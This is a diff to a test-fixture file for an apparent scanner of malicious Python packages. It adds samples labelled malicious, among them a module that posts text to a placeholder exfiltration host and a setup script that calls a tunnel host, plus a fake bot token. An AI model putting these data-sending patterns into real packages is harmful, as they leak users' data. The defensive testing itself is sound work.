@@ -10,6 +10,22 @@ const MAILBOX = `https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sen
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a tunnel in a setup script',
+      files: {
+        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'setup.py':
+          'import urllib.request\nfrom setuptools import setup\nURL = "https://a1.tunnel.weir.test"\ndef ask():\n    return urllib.request.Request(URL)\nsetup(name="own")\n',
+      },
+      expected: [at('tunnel', 'high', 3, 'setup.py')],
+    },
+    {
+      name: 'Python: a request catcher in a module',
+      files: wheel(
+        'import requests\ndef tell(text):\n    requests.post("https://a.exfil.weir.test/x", data=text)\n',
+      ),
+      expected: [at('request-catcher', 'high', 3, 'own/__init__.py')],
+    },
+    {
       name: 'Python: the key of a bot in code that talks through a library',
       files: wheel(
         'import telebot\nbot = telebot.TeleBot("1234567890:AbCdEfGhIjKlMnOpQrStUvWxYz012345678")\nbot.send_message(1, "hi")\n',
@@ -57,6 +73,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a service that tells an address',
+      wheel('import requests\ndef own():\n    return requests.get("https://address.weir.test").text\n'),
+    ),
     quiet(
       'Python: a bot of the user',
       wheel('import telebot\ndef start(token):\n    return telebot.TeleBot(token)\n'),
